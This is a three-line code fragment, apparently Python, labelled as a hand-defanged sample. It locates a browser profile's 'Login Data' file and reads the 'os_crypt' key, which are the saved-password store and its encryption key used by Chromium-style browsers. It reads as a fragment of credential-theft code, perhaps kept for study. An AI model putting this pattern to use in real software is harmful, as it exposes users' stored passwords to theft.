# Defanged sample: nothing here is reached or run; defanged by hand.
store = profile / 'Login Data'
key = state['os_crypt']
